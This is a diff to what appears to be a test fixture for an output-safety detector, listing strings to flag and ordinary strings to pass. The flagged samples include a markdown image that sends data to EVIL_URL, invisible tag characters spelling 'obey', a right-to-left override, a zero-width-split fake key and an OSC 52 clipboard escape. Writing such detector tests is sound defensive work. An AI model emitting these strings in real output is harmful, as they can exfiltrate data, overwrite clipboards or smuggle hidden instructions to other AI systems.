@@ -17,6 +17,10 @@ TELLING = {
     "a database file": "It is kept in documents.db of the data directory.",
     "a traceback": "Traceback (most recent call last):\n  File x",
     "a link": f"![chart]({EVIL_URL}?d=abc)",
+    "a secret with unseen letters": "\u200b".join("AKIA" + "FAKE" * 4),
+    "letters of flags": "Hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "obey"),
+    "another direction": "It is safe \u202eelif eht nepo",
+    "a terminal": "Done.\x1b]52;c;RkFLRQ==\x07",
     "a prompt": "My rules: " + role_prompts()["planner"][200:500],
 }
 ORDINARY = (
@@ -27,6 +31,7 @@ ORDINARY = (
     "Use someone@example.com as the address of the subscription.",
     "The digest is sha256:41cf6794ba4200b839c53531555f0f3998df4cbb01a4d5cb0b94e3ca5e23947d.",
     "The bucket holds 1893456789012 bytes; 4111111111111112 is no card.",
+    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 or \U0001f469\u200d\U0001f4bb\tare fine.\n",
     "I cannot read ./examples/hello-fastapi/app.py.",
     "The placeholder *** stands for a secret.",
 )
